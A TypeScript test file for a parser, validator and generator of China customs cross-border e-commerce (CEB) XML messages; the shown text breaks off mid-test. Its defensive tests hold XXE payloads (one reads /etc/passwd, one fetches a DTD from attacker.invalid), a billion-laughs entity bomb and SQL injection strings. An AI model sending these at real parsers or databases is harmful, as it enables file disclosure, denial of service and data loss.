import { execFile } from 'node:child_process';
import { existsSync } from 'node:fs';
import { mkdtemp, readFile, rm, writeFile } from 'node:fs/promises';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { promisify } from 'node:util';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { encodeGbk } from '../../../test/helpers/ceb-large.ts';
import { requireService } from '../../../test/helpers/services.ts';
import { FIXTURE_TYPES, fixtureXml, placeholderSignatureXml, SchemaShapedPlaceholderSigner, type FixtureType } from './fixtures.ts';
import { cebXsdDir, GENERATED_RULES_FILE, renderFromXsdDir } from './gen-rules.ts';
import { formatCebTime, generateCeb507, generateCeb509, generateCeb711, UnsignedNoopSigner, type Signer } from './generate.ts';
import { CEB_NS, DS_NS, parseCebXml, type CebMessage } from './parse.ts';
import { CEB_MESSAGE_XSD, CEB_XSD_RULES } from './rules.generated.ts';
import { deriveXsdRules, type Content, type Particle } from './schema.ts';
import { checkCeb, validateCeb, type CebIssue } from './validate.ts';
import { serializeXml, type XmlElement } from './xml.ts';

const run = promisify(execFile);

// ---- helpers ----

function parsed(xml: string | Uint8Array): CebMessage {
  const r = parseCebXml(xml);
  if (!r.ok) throw new Error(`expected a parse, got ${JSON.stringify(r.issues)}`);
  return r.message;
}

function parseIssue(xml: string | Uint8Array, opts?: Parameters<typeof parseCebXml>[1]): { code: string; field: string; message: string; line?: number; column?: number } {
  const r = parseCebXml(xml, opts);
  if (r.ok) throw new Error('expected the parse to fail');
  expect(r.issues).toHaveLength(1);
  return r.issues[0]!;
}

/** The tree without positions and namespace declarations: what must not depend on how the sender wrote prefixes. */
function shape(el: XmlElement): unknown {
  return { ns: el.ns, name: el.name, attrs: el.attrs, text: el.text, children: el.children.map(shape) };
}

/** `Order[0].OrderHead.acturalPaid` → that element (index counts same-named siblings, as validation paths do). */
function at(root: XmlElement, path: string): XmlElement {
  let el = root;
  for (const seg of path.split('.')) {
    const m = /^([A-Za-z0-9]+)(?:\[(\d+)\])?$/.exec(seg);
    const found = el.children.filter((c) => c.name === m?.[1])[Number(m?.[2] ?? 0)];
    if (!m || !found) throw new Error(`no ${seg} in ${path}`);
    el = found;
  }
  return el;
}

function parentOf(root: XmlElement, path: string): { parent: XmlElement; child: XmlElement } {
  const cut = path.lastIndexOf('.');
  const parent = cut < 0 ? root : at(root, path.slice(0, cut));
  return { parent, child: at(root, path) };
}

function remove(root: XmlElement, path: string): void {
  const { parent, child } = parentOf(root, path);
  parent.children.splice(parent.children.indexOf(child), 1);
}

function moveBefore(root: XmlElement, path: string, beforePath: string): void {
  const { parent, child } = parentOf(root, path);
  parent.children.splice(parent.children.indexOf(child), 1);
  parent.children.splice(parent.children.indexOf(at(root, beforePath)), 0, child);
}

function issuesOf(message: CebMessage): Pick<CebIssue, 'field' | 'rule'>[] {
  return validateCeb(message).map(({ field, rule }) => ({ field, rule }));
}

const NOW = new Date('2024-07-28T02:15:30.250Z'); // 10:15:30 in Beijing
let guidSeq = 0;
const fixedGuid = (): string => `0000000${++guidSeq}-AAAA-4BBB-8CCC-DDDDDDDDDDDD`.slice(-36);
const TRANSFER = { copCode: '4401630ABC', copName: '广州南沙保税港区仓储有限公司', dxpId: 'DXPENT0000067890' };
const INPUT_711 = {
  baseTransfer: TRANSFER,
  customsCode: '5165',
  operatorCode: '4401630ABC',
  operatorName: '广州南沙保税港区仓储有限公司',
  trafMode: '5',
  trafNo: 'CZ3041',
  voyageNo: '20240728',
  billNo: '784-12345675',
  logisticsCode: '440316T004',
  logisticsName: '广州南沙顺捷国际物流有限公司',
  unloadLocation: '3号监管仓 A区 <货架 12> & "B" 区',
  list: [{ logisticsNo: 'SF1429876543210' }, { logisticsNo: 'SF1429876543227', note: "O'Brien; DROP TABLE parcels;--" }],
};
const INPUT_507 = {
  baseTransfer: TRANSFER,
  customsCode: '2924',
  copNo: 'YWDD20240728001',
  operatorCode: '3318980EMS',
  operatorName: '义乌邮政跨境监管中心',
  trafMode: '4',
  domesticTrafNo: '浙G·A1234',
  logisticsCode: '3318980EMS',
  logisticsName: '中国邮政速递物流股份有限公司义乌分公司',
  list: [{ logisticsNo: 'EA123456785CN', totalPackageNo: 'YWBAG20240728001' }, { logisticsNo: 'EE000000014CN', totalPackageNo: 'YWBAG20240728001' }],
};
const INPUT_509 = {
  baseTransfer: TRANSFER,
  customsCode: '2924',
  copNo: 'YWLJ20240728001',
  logisticsCode: '3318980EMS',
  logisticsName: '中国邮政速递物流股份有限公司义乌分公司',
  trafMode: '5',
  trafName: 'CA1234',
  voyageNo: '20240729',
  billNo: '999-12345675',
  leaveTime: new Date('2024-07-29T01:00:00Z'),
  list: [{ logisticsNo: 'EA123456785CN', totalPackageNo: 'YWBAG20240728001' }],
};

// ---- parsing and validating the samples ----

describe('parseCebXml + validateCeb: realistic samples of every listed message', () => {
  it.each(FIXTURE_TYPES)('%s parses and validates with no issue', (type) => {
    const m = parsed(fixtureXml(type));
    expect(m.type).toBe(type);
    expect(m.guid).toBe('8E2F4C1A-3B5D-4E6F-9A7B-1C2D3E4F5A60');
    expect(m.version).toBe('1.0');
    expect(m.root.ns).toBe(CEB_NS);
    expect(validateCeb(m)).toEqual([]);
  });

  it('keeps CEB field values exactly, Chinese included', () => {
    const m = parsed(fixtureXml('CEB311'));
    expect(at(m.root, 'Order.OrderHead.acturalPaid').text).toBe('639.15');
    expect(at(m.root, 'Order.OrderList[1].itemName').text).toBe('花王妙而舒纸尿裤L号54片');
    expect(at(m.root, 'Order.OrderList[1].itemName').line).toBeGreaterThan(1);
  });

  it.each(['CEB311', 'CEB312', 'CEB621', 'CEB603'] as const)('%s: ceb: prefix, default namespace and another prefix parse to the same tree', (type) => {
    const [a, b, c] = (['ceb', 'default', 'other'] as const).map((style) => parsed(fixtureXml(type, { style })));
    expect(shape(b!.root)).toEqual(shape(a!.root));
    expect(shape(c!.root)).toEqual(shape(a!.root));
    for (const m of [a, b, c]) expect(validateCeb(m!)).toEqual([]);
  });

  it('resolves a prefix bound lower in the tree, and a default namespace redeclared on a child', () => {
    const xml = `<CEB312Message xmlns="${CEB_NS}" guid="D3A1F5C7-9B2E-4C8D-A6F0-7E1B3C5D9A24" version="1.0">
      <r:OrderReturn xmlns:r="${CEB_NS}"><r:guid>D3A1F5C7-9B2E-4C8D-A6F0-7E1B3C5D9A24</r:guid><ebpCode xmlns="${CEB_NS}">4401986Y1B</ebpCode>
      <r:ebcCode>440166K00A</r:ebcCode><r:orderNo>GZKJ1</r:orderNo><r:returnStatus>-301010</r:returnStatus><r:returnTime>20240728101702318</r:returnTime><r:returnInfo>重复申报</r:returnInfo></r:OrderReturn>
    </CEB312Message>`;
    expect(validateCeb(parsed(xml))).toEqual([]);
  });

  it('decodes a GBK document that says so, and refuses bytes that are not what they claim', () => {
    const head = Buffer.from(`<?xml version="1.0" encoding="GBK"?><CEB312Message xmlns="${CEB_NS}" guid="D3A1F5C7-9B2E-4C8D-A6F0-7E1B3C5D9A24" version="1.0"><OrderReturn><guid>D3A1F5C7-9B2E-4C8D-A6F0-7E1B3C5D9A24</guid><ebpCode>4401986Y1B</ebpCode><ebcCode>440166K00A</ebcCode><orderNo>GZKJ1</orderNo><returnStatus>120</returnStatus><returnTime>20240728101702318</returnTime><returnInfo>`, 'latin1');
    const tail = Buffer.from('</returnInfo></OrderReturn></CEB312Message>', 'latin1');
    const gbk = Buffer.concat([head, Buffer.from([0xd5, 0xc5, 0xce, 0xb0]), tail]); // 张伟 in GBK
    const m = parsed(gbk);
    expect(at(m.root, 'OrderReturn.returnInfo').text).toBe('张伟');
    expect(validateCeb(m)).toEqual([]);
    const utf8Claim = Buffer.concat([Buffer.from(`<?xml version="1.0"?><CEB312Message xmlns="${CEB_NS}" guid="x" version="1"><a>`), Buffer.from([0xff, 0xfe, 0xfd]), Buffer.from('</a></CEB312Message>')]);
    expect(parseIssue(utf8Claim).code).toBe('XML_ENCODING_INVALID');
    expect(parseIssue(Buffer.from('<?xml version="1.0" encoding="ISO-2022-JP"?><a/>')).code).toBe('XML_ENCODING_UNSUPPORTED');
  });

  it('accepts a UTF-8 BOM and a Buffer', () => {
    const m = parsed(Buffer.concat([Buffer.from([0xef, 0xbb, 0xbf]), Buffer.from(fixtureXml('CEB511'))]));
    expect(validateCeb(m)).toEqual([]);
  });

  it('refuses a root outside the CEB namespace, by URI and not by prefix', () => {
    const wrongUri = fixtureXml('CEB311').replace(CEB_NS, 'http://www.chinaport.gov.cn/ceb2');
    expect(parseIssue(wrongUri).code).toBe('CEB_NAMESPACE');
    const noNs = fixtureXml('CEB311', { style: 'default' }).replace(` xmlns="${CEB_NS}"`, '');
    expect(parseIssue(noNs).code).toBe('CEB_NAMESPACE');
    const cebPrefixElsewhere = fixtureXml('CEB311').replace(`xmlns:ceb="${CEB_NS}"`, 'xmlns:ceb="urn:not-customs"');
    expect(parseIssue(cebPrefixElsewhere)).toMatchObject({ code: 'CEB_NAMESPACE', line: 2 });
  });

  it('refuses an unknown message and a root without guid or version', () => {
    expect(parseIssue(`<ceb:CEB999Message xmlns:ceb="${CEB_NS}" guid="A" version="1.0"/>`).code).toBe('CEB_UNKNOWN_MESSAGE');
    const r = parseCebXml(`<ceb:CEB311Message xmlns:ceb="${CEB_NS}"/>`);
    expect(r.ok ? [] : r.issues.map((i) => [i.code, i.field])).toEqual([['CEB_ROOT_ATTRIBUTE', '@guid'], ['CEB_ROOT_ATTRIBUTE', '@version']]);
  });
});

describe('decoding from bytes (issue 15 item 3): BOM and declaration, strictly', () => {
  const GUID = 'D3A1F5C7-9B2E-4C8D-A6F0-7E1B3C5D9A24';
  const receipt = (decl: string, info = '张伟') =>
    `${decl}<CEB312Message xmlns="${CEB_NS}" guid="${GUID}" version="1.0"><OrderReturn><guid>${GUID}</guid><ebpCode>4401986Y1B</ebpCode><ebcCode>440166K00A</ebcCode><orderNo>GZKJ1</orderNo><returnStatus>120</returnStatus><returnTime>20240728101702318</returnTime><returnInfo>${info}</returnInfo></OrderReturn></CEB312Message>`;
  const gbkBytes = (text: string) => encodeGbk(text);
  const utf16le = (text: string, bom = true) => Buffer.concat([bom ? Buffer.from([0xff, 0xfe]) : Buffer.alloc(0), Buffer.from(text, 'utf16le')]);
  const utf16be = (text: string) => {
    const le = Buffer.from(text, 'utf16le');
    for (let i = 0; i < le.length; i += 2) [le[i], le[i + 1]] = [le[i + 1]!, le[i]!];
    return Buffer.concat([Buffer.from([0xfe, 0xff]), le]);
  };
  const info = (xml: string | Uint8Array) => at(parsed(xml).root, 'OrderReturn.returnInfo').text;

  it.each([
    ['UTF-8, declared', Buffer.from(receipt('<?xml version="1.0" encoding="UTF-8"?>'))],
    ['UTF-8, no declaration', Buffer.from(receipt(''))],
    ['UTF-8 with a BOM and a UTF-8 declaration', Buffer.concat([Buffer.from([0xef, 0xbb, 0xbf]), Buffer.from(receipt('<?xml version="1.0" encoding="utf-8"?>'))])],
    ['GBK', gbkBytes(receipt('<?xml version="1.0" encoding="GBK"?>'))],
    ['GB2312', gbkBytes(receipt('<?xml version="1.0" encoding="gb2312"?>'))],
    ['GB18030', gbkBytes(receipt(`<?xml version="1.0" encoding='GB18030'?>`))],
    ['UTF-16LE with a BOM, declared UTF-16', utf16le(receipt('<?xml version="1.0" encoding="UTF-16"?>'))],
    ['UTF-16LE with a BOM, no declaration', utf16le(receipt(''))],
    ['UTF-16BE with a BOM', utf16be(receipt('<?xml version="1.0" encoding="UTF-16"?>'))],
    ['UTF-16LE without a BOM, declared', utf16le(receipt('<?xml version="1.0" encoding="UTF-16"?>'), false)],
  ])('reads %s', (_name, bytes) => {
    expect(info(bytes)).toBe('张伟');
  });

  it.each([
    ['a UTF-16 BOM under a GBK declaration', utf16le(receipt('<?xml version="1.0" encoding="GBK"?>')), 'XML_ENCODING_MISMATCH'],
    ['a UTF-16 BOM under a UTF-8 declaration', utf16be(receipt('<?xml version="1.0" encoding="UTF-8"?>')), 'XML_ENCODING_MISMATCH'],
    ['a UTF-8 BOM under a GBK declaration', Buffer.concat([Buffer.from([0xef, 0xbb, 0xbf]), Buffer.from(receipt('<?xml version="1.0" encoding="GBK"?>'))]), 'XML_ENCODING_MISMATCH'],
    ['a UTF-16 declaration on one-byte text', Buffer.from(receipt('<?xml version="1.0" encoding="UTF-16"?>')), 'XML_ENCODING_MISMATCH'],
    ['a GBK declaration on UTF-8 bytes', Buffer.from(receipt('<?xml version="1.0" encoding="GBK"?>')), 'XML_ENCODING_MISMATCH'],
    ['GBK bytes declared UTF-8', gbkBytes(receipt('<?xml version="1.0" encoding="UTF-8"?>')), 'XML_ENCODING_INVALID'],
    ['GBK bytes with no declaration', gbkBytes(receipt('')), 'XML_ENCODING_INVALID'],
    ['UTF-16 without BOM or declaration', utf16le(receipt(''), false), 'XML_ENCODING_MISMATCH'],
    ['an odd byte in UTF-16', Buffer.concat([utf16le(receipt('')), Buffer.from([0x41])]), 'XML_ENCODING_INVALID'],
    ['UTF-32', Buffer.concat([Buffer.from([0xff, 0xfe, 0, 0]), Buffer.from('<a/>')]), 'XML_ENCODING_UNSUPPORTED'],
    ['U+FFFD from an earlier decode', Buffer.from(receipt('<?xml version="1.0" encoding="UTF-8"?>', '\uFFFD\uFFFD')), 'XML_REPLACEMENT_CHARACTER'],
    ['U+FFFD in text', receipt('', '张\uFFFD'), 'XML_REPLACEMENT_CHARACTER'],
  ])('refuses %s', (_name, bytes, code) => {
    expect(parseIssue(bytes)).toMatchObject({ code, field: 'xml' });
  });

  it('a GBK file that is not valid UTF-8 is told to declare GBK', () => {
    expect(parseIssue(gbkBytes(receipt(''))).message).toMatch(/declare encoding="GBK"/);
  });

  it('ASCII-only content declared GBK is the same bytes either way, and read', () => {
    expect(info(Buffer.from(receipt('<?xml version="1.0" encoding="GBK"?>', 'OK')))).toBe('OK');
  });
});

// ---- validation rules ----

describe('validateCeb: every rule kind gives a field-level issue', () => {
  const cases: { kind: CebIssue['rule']; type: FixtureType; field: string; mutate: (root: XmlElement) => void; message?: string }[] = [
    { kind: 'required', type: 'CEB311', field: 'Order[0].OrderHead.orderNo', mutate: (r) => remove(r, 'Order.OrderHead.orderNo') },
    { kind: 'required', type: 'CEB621', field: 'Signature', mutate: (r) => remove(r, 'Signature') },
    { kind: 'required', type: 'CEB311', field: 'BaseTransfer', mutate: (r) => remove(r, 'BaseTransfer') },
    { kind: 'maxLength', type: 'CEB311', field: 'Order[0].OrderHead.orderNo', mutate: (r) => void (at(r, 'Order.OrderHead.orderNo').text = 'N'.repeat(61)), message: 'expected at most 60 characters, got 61' },
    { kind: 'maxLength', type: 'CEB505', field: 'Logistics[0].logisticsNo', mutate: (r) => void (at(r, 'Logistics.logisticsNo').text = 'SF'.padEnd(33, '1')) },
    { kind: 'minLength', type: 'CEB311', field: 'Order[0].OrderHead.ebpCode', mutate: (r) => void (at(r, 'Order.OrderHead.ebpCode').text = '') },
    { kind: 'length', type: 'CEB621', field: 'Inventory[0].InventoryList[0].gcode', mutate: (r) => void (at(r, 'Inventory.InventoryList.gcode').text = '19011010') },
    { kind: 'decimal', type: 'CEB311', field: 'Order[0].OrderHead.acturalPaid', mutate: (r) => void (at(r, 'Order.OrderHead.acturalPaid').text = '12,5'), message: 'expected decimal(19,5), got "12,5"' },
    { kind: 'decimal', type: 'CEB311', field: 'Order[0].OrderList[1].price', mutate: (r) => void (at(r, 'Order.OrderList[1].price').text = '139.000001') },
    { kind: 'decimal', type: 'CEB511', field: 'Logistics[0].LogisticsHead.weight', mutate: (r) => void (at(r, 'Logistics.LogisticsHead.weight').text = '12345678901234567890') },
    { kind: 'int', type: 'CEB311', field: 'Order[0].OrderList[0].gnum', mutate: (r) => void (at(r, 'Order.OrderList.gnum').text = 'one') },
    { kind: 'int', type: 'CEB505', field: 'Logistics[0].packNo', mutate: (r) => void (at(r, 'Logistics.packNo').text = '1234567890') },
    { kind: 'fixed', type: 'CEB311', field: 'Order[0].OrderHead.currency', mutate: (r) => void (at(r, 'Order.OrderHead.currency').text = '502'), message: 'expected 142 (fixed by the XSD), got "502"' },
    { kind: 'fixed', type: 'CEB603', field: 'Inventory[0].InventoryHead.fFlag', mutate: (r) => void (at(r, 'Inventory.InventoryHead.fFlag').text = '1') },
    { kind: 'maxOccurs', type: 'CEB311', field: 'Order[0].OrderList[99]', mutate: (r) => at(r, 'Order').children.push(...Array.from({ length: 98 }, () => structuredClone(at(r, 'Order.OrderList')))), message: 'at most 99 OrderList allowed' },
    { kind: 'order', type: 'CEB311', field: 'Order[0].OrderHead.acturalPaid', mutate: (r) => moveBefore(r, 'Order.OrderHead.acturalPaid', 'Order.OrderHead.goodsValue') },
    { kind: 'order', type: 'CEB603', field: 'BaseTransfer', mutate: (r) => moveBefore(r, 'BaseTransfer', 'Inventory') },
  ];

  it.each(cases)('$kind: $type $field', ({ type, field, kind, mutate, message }) => {
    const m = parsed(fixtureXml(type));
    mutate(m.root);
    const issues = validateCeb(m);
    expect(issues.map(({ field, rule }) => ({ field, rule }))).toContainEqual({ field, rule: kind });
    if (message) expect(issues.find((i) => i.field === field)?.message).toBe(message);
  });

  it('what only the XSD documentation says is a warning, never an issue (issue 15 item 1)', () => {
    const cases: { type: FixtureType; field: string; code: string; mutate: (r: XmlElement) => void }[] = [
      { type: 'CEB411', field: 'Payment[0].PaymentHead.payTime', code: 'CEB_DOCUMENTED_FORMAT', mutate: (r) => void (at(r, 'Payment.PaymentHead.payTime').text = '20240728-10:08') },
      { type: 'CEB311', field: 'Order[0].OrderHead.appTime', code: 'CEB_DOCUMENTED_FORMAT', mutate: (r) => void (at(r, 'Order.OrderHead.appTime').text = '20240230101530') },
      { type: 'CEB622', field: 'InventoryReturn[0].returnTime', code: 'CEB_DOCUMENTED_FORMAT', mutate: (r) => void (at(r, 'InventoryReturn.returnTime').text = '2024072810170231A') },
      { type: 'CEB311', field: 'Order[0].OrderHead.appType', code: 'CEB_DOCUMENTED_ENUMERATION', mutate: (r) => void (at(r, 'Order.OrderHead.appType').text = '9') },
      { type: 'CEB303', field: 'Order[0].OrderHead.orderType', code: 'CEB_DOCUMENTED_ENUMERATION', mutate: (r) => void (at(r, 'Order.OrderHead.orderType').text = 'X') },
      { type: 'CEB511', field: 'BaseTransfer.dxpMode', code: 'CEB_DOCUMENTED_ENUMERATION', mutate: (r) => void (at(r, 'BaseTransfer.dxpMode').text = 'FTP') },
      { type: 'CEB511', field: 'Logistics[0].LogisticsHead.packNo', code: 'CEB_DOCUMENTED_ENUMERATION', mutate: (r) => void (at(r, 'Logistics.LogisticsHead.packNo').text = '3') },
      { type: 'CEB604', field: 'InventoryReturn[0].statisticsFlag', code: 'CEB_DOCUMENTED_ENUMERATION', mutate: (r) => void (at(r, 'InventoryReturn.statisticsFlag').text = 'C') },
      { type: 'CEB621', field: 'Inventory[0].InventoryHead.guid', code: 'CEB_DOCUMENTED_UPPERCASE', mutate: (r) => void (at(r, 'Inventory.InventoryHead.guid').text = '4c0b7e91-2d6a-4f3b-8c5e-0a1b2c3d4e5f') },
      { type: 'CEB621', field: '@guid', code: 'CEB_DOCUMENTED_UPPERCASE', mutate: (r) => void (r.attrs.guid = r.attrs.guid!.toLowerCase()) },
    ];
    for (const { type, field, code, mutate } of cases) {
      const m = parsed(fixtureXml(type));
      expect(checkCeb(m).warnings, `${type} as given`).toEqual([]);
      mutate(m.root);
      const checked = checkCeb(m);
      expect(checked.issues, `${type} ${field}`).toEqual([]);
      expect(checked.warnings, `${type} ${field}`).toEqual([expect.objectContaining({ field, code, params: expect.objectContaining({ got: expect.any(String) }) })]);
    }
  });

  it('an unknown element named like a field but for case is a warning naming both, and stays an extension (issue 15 item 8)', () => {
    const xml = fixtureXml('CEB411').replace(/<ceb:payTransactionId>([^<]*)<\/ceb:payTransactionId>/, '<ceb:payTransactionId>$1</ceb:payTransactionId><ceb:payTransactionID>X-1</ceb:payTransactionID>');
    const checked = checkCeb(parsed(xml));
    expect(checked.issues).toEqual([]);
    expect(checked.warnings).toEqual([{ field: 'Payment[0].PaymentHead.payTransactionID', code: 'CEB_FIELD_CASE', message: expect.stringMatching(/payTransactionId/), params: { element: 'payTransactionID', field: 'payTransactionId' } }]);
    // An unknown name that matches no field in any case is an extension without a word.
    expect(checkCeb(parsed(xml.replace(/payTransactionID/g, 'sortLine'))).warnings).toEqual([]);
  });

  it('a moved field gives one order issue, on that field, and nothing else', () => {
    const m = parsed(fixtureXml('CEB311'));
    moveBefore(m.root, 'Order.OrderHead.acturalPaid', 'Order.OrderHead.goodsValue');
    expect(validateCeb(m)).toEqual([{ field: 'Order[0].OrderHead.acturalPaid', rule: 'order', message: 'out of order: the XSD sequence puts acturalPaid after taxTotal and before currency' }]);
  });

  it('reports several problems at once, each on its own field', () => {
    const m = parsed(fixtureXml('CEB311'));
    remove(m.root, 'Order.OrderHead.buyerName');
    at(m.root, 'Order.OrderList[0].qty').text = 'two';
    at(m.root, 'Order.OrderList[1].currency').text = 'USD';
    expect(issuesOf(m)).toEqual([
      { field: 'Order[0].OrderHead.buyerName', rule: 'required' },
      { field: 'Order[0].OrderList[0].qty', rule: 'decimal' },
      { field: 'Order[0].OrderList[1].currency', rule: 'fixed' },
    ]);
  });

  it('counts XSD lengths in characters: 60 Chinese characters fit buyerName maxLength 60', () => {
    const m = parsed(fixtureXml('CEB311'));
    at(m.root, 'Order.OrderHead.buyerName').text = '张'.repeat(60);
    expect(validateCeb(m)).toEqual([]);
    at(m.root, 'Order.OrderHead.buyerName').text = '𠀋'.repeat(60); // astral: two UTF-16 units each, still one character
    expect(validateCeb(m)).toEqual([]);
  });

  it('an empty element with a fixed or default value takes that value, as in XSD', () => {
    const imp = parsed(fixtureXml('CEB311'));
    at(imp.root, 'Order.OrderHead.currency').text = '';
    expect(validateCeb(imp)).toEqual([]);
    const exp = parsed(fixtureXml('CEB303'));
    at(exp.root, 'Order.OrderHead.appStatus').text = ''; // export OrderHead appStatus default="1"
    expect(validateCeb(exp)).toEqual([]);
  });

  it('accepts the decimal and int lexical forms the XSD accepts', () => {
    const m = parsed(fixtureXml('CEB311'));
    for (const v of ['0', '639.15', '+639.15000', '.5', '5.', ' 12.3 ', '00000000000000000000001.5']) {
      at(m.root, 'Order.OrderHead.acturalPaid').text = v;
      expect(validateCeb(m), v).toEqual([]);
    }
  });

  it('keeps unknown (district extension) elements in the tree and raises no issue for them', () => {
    const xml = fixtureXml('CEB621')
      .replace('<ceb:netWeight>', '<ceb:sortingLineId>NS-L03</ceb:sortingLineId>\n      <ceb:netWeight>')
      .replace('<ceb:BaseTransfer>', '<nsx:DistrictExt xmlns:nsx="urn:customs:5165:ext"><nsx:xrayLane>X2</nsx:xrayLane></nsx:DistrictExt>\n  <ceb:BaseTransfer>');
    const m = parsed(xml);
    expect(at(m.root, 'Inventory.InventoryHead.sortingLineId')).toMatchObject({ ns: CEB_NS, text: 'NS-L03' });
    expect(at(m.root, 'DistrictExt.xrayLane')).toMatchObject({ ns: 'urn:customs:5165:ext', text: 'X2' });
    expect(validateCeb(m)).toEqual([]);
  });

  it('does not look inside ds:Signature or ExtendMessage.Message (other schemas / xs:any)', () => {
    const xml = fixtureXml('CEB621').replace(
      '<ds:Signature',
      `<ceb:ExtendMessage><ceb:name>NSQ</ceb:name><ceb:version>1</ceb:version><ceb:Message><anything><goes>here</goes></anything></ceb:Message></ceb:ExtendMessage>\n  <ds:Signature`,
    );
    const m = parsed(xml);
    expect(at(m.root, 'Signature.SignedInfo.Reference.DigestValue').ns).toBe(DS_NS);
    expect(validateCeb(m)).toEqual([]);
  });

  it('keeps SQL metacharacters verbatim, with no issue', () => {
    const sql = `Robert'); DROP TABLE orders;-- ' OR '1'='1`;
    const xml = fixtureXml('CEB311').replace('<ceb:buyerName>张伟</ceb:buyerName>', `<ceb:buyerName>${sql.replace(/&/g, '&amp;')}</ceb:buyerName>`);
    const m = parsed(xml);
    expect(at(m.root, 'Order.OrderHead.buyerName').text).toBe(sql);
    expect(validateCeb(m)).toEqual([]);
  });
});

// ---- hostile input ----

describe('parseCebXml on hostile input', () => {
  const root = (inner: string): string => `<ceb:CEB311Message xmlns:ceb="${CEB_NS}" guid="8E2F4C1A-3B5D-4E6F-9A7B-1C2D3E4F5A60" version="1.0">${inner}</ceb:CEB311Message>`;

  it('refuses XXE: a DOCTYPE with a SYSTEM entity is never read, let alone resolved', () => {
    const xml = `<?xml version="1.0"?>\n<!DOCTYPE foo [ <!ENTITY xxe SYSTEM "file:///etc/passwd"> ]>\n${root('<ceb:Order><ceb:OrderHead><ceb:note>&xxe;</ceb:note></ceb:OrderHead></ceb:Order>')}`;
    const issue = parseIssue(xml);
    expect(issue).toMatchObject({ code: 'XML_DOCTYPE_REFUSED', line: 2, column: 1 });
    expect(JSON.stringify(issue)).not.toMatch(/root:|daemon:/);
  });

  it('refuses billion laughs at the DOCTYPE, at once', () => {
    const lols = Array.from({ length: 9 }, (_, i) => `<!ENTITY lol${i + 1} "${`&lol${i};`.repeat(10)}">`).join('\n');
    const xml = `<?xml version="1.0"?>\n<!DOCTYPE lolz [\n<!ENTITY lol0 "lol">\n${lols}\n]>\n${root('<ceb:x>&lol9;</ceb:x>')}`;
    const started = performance.now();
    expect(parseIssue(xml).code).toBe('XML_DOCTYPE_REFUSED');
    expect(performance.now() - started).toBeLessThan(200);
  });

  it('refuses an external parameter entity, also behind a comment and a processing instruction', () => {
    const xml = `<?xml version="1.0"?><!-- from the e-port --><?proc x?>\n  <!doctype r [ <!ENTITY % ext SYSTEM "http://attacker.invalid/evil.dtd"> %ext; ]>${root('')}`;
    expect(parseIssue(xml)).toMatchObject({ code: 'XML_DOCTYPE_REFUSED', line: 2 });
  });

  it('an entity reference without a DTD is malformed, not resolved', () => {
    expect(parseIssue(root('<ceb:x>&xxe;</ceb:x>')).code).toBe('XML_MALFORMED');
  });

  it('refuses 10,000 levels of nesting at the depth limit', () => {
    const deep = `${'<ceb:a>'.repeat(10_000)}${'</ceb:a>'.repeat(10_000)}`;
    expect(parseIssue(root(deep))).toMatchObject({ code: 'XML_TOO_DEEP', line: 1 });
    expect(parseIssue(fixtureXml('CEB311'), { limits: { maxDepth: 3 } }).code).toBe('XML_TOO_DEEP');
  });

  it('refuses a 50 MB input by its size before parsing any of it', () => {
    const huge = Buffer.alloc(50 * 1024 * 1024, 0x20); // one allocation; content never reaches the parser
    huge.write(root('<ceb:x>'), 0);
    const started = performance.now();
    expect(parseIssue(huge)).toMatchObject({ code: 'XML_TOO_LARGE' });
    expect(performance.now() - started).toBeLessThan(200);
    expect(parseIssue(fixtureXml('CEB311'), { limits: { maxBytes: 1024 } }).code).toBe('XML_TOO_LARGE');
  });

  it('limits elements, attributes per element and text length', () => {
    expect(parseIssue(fixtureXml('CEB311'), { limits: { maxElements: 50 } }).code).toBe('XML_TOO_MANY_ELEMENTS');
    const attrs = Array.from({ length: 40 }, (_, i) => ` a${i}="v"`).join('');
    expect(parseIssue(root(`<ceb:x${attrs}/>`)).code).toBe('XML_TOO_MANY_ATTRIBUTES');
    expect(parseIssue(root(`<ceb:x>${'A'.repeat(300_000)}</ceb:x>`)).code).toBe('XML_TEXT_TOO_LONG');
    expect(parseIssue(fixtureXml('CEB311'), { limits: { maxTextLength: 10 } }).code).toBe('XML_TEXT_TOO_LONG');
  });

  it('a long list is not mistaken for long text (indentation between elements is not counted)', () => {
    const lines = Array.from({ length: 20_000 }, (_, i) => `\n    <ceb:DeliveryList><ceb:gnum>${i + 1}</ceb:gnum><ceb:logisticsNo>SF${String(i).padStart(13, '0')}</ceb:logisticsNo></ceb:DeliveryList>`).join('');
    const r = parseCebXml(`<ceb:CEB711Message xmlns:ceb="${CEB_NS}" guid="A" version="1"><ceb:Delivery>${lines}</ceb:Delivery></ceb:CEB711Message>`);
    expect(r.ok).toBe(true);
  });

  it('reports truncated and malformed XML with line and column', () => {
    const xml = fixtureXml('CEB311');
    const truncated = parseIssue(xml.slice(0, Math.floor(xml.length / 2)));
    expect(truncated.code).toBe('XML_MALFORMED');
    expect(truncated.line).toBeGreaterThan(10);
    expect(truncated.message).toMatch(/^line \d+, column \d+: /);
    expect(parseIssue(`<ceb:CEB311Message xmlns:ceb="${CEB_NS}">\n  <ceb:a></ceb:b>\n</ceb:CEB311Message>`)).toMatchObject({ code: 'XML_MALFORMED', line: 2 });
    expect(parseIssue('').code).toBe('XML_MALFORMED');
    expect(parseIssue('<x:a xmlns:y="urn:y"/>').code).toBe('XML_MALFORMED'); // unbound prefix
  });
});

// ---- generation ----

describe('generateCeb711 / 507 / 509', () => {
  it('writes CEB711 in XSD order with guids, Beijing appTime, BaseTransfer and escaped text', async () => {
    const r = await generateCeb711(INPUT_711, { signer: new UnsignedNoopSigner(), now: NOW });
    if (!r.ok) throw new Error(JSON.stringify(r.issues));
    expect(r.xml).toContain('<ceb:CEB711Message guid="');
    expect(r.xml).toContain('&lt;货架 12&gt; &amp; "B" 区');
    const m = parsed(r.xml);
    expect(m.guid).toMatch(/^[0-9A-F]{8}-[0-9A-F]{4}-4[0-9A-F]{3}-[89AB][0-9A-F]{3}-[0-9A-F]{12}$/);
    expect(m.guid).toBe(r.guid);
    expect(at(m.root, 'Delivery.DeliveryHead.appTime').text).toBe('20240728101530');
    expect(at(m.root, 'Delivery.DeliveryHead.unloadLocation').text).toBe(INPUT_711.unloadLocation);
    expect(at(m.root, 'Delivery.DeliveryList[1]').children.map((c) => [c.name, c.text])).toEqual([['gnum', '2'], ['logisticsNo', 'SF1429876543227'], ['note', "O'Brien; DROP TABLE parcels;--"]]);
    expect(at(m.root, 'BaseTransfer').children.map((c) => c.text)).toEqual(['4401630ABC', '广州南沙保税港区仓储有限公司', 'DXP', 'DXPENT0000067890']);
    // Unsigned: everything is valid except the signature the XSD requires on CEB711.
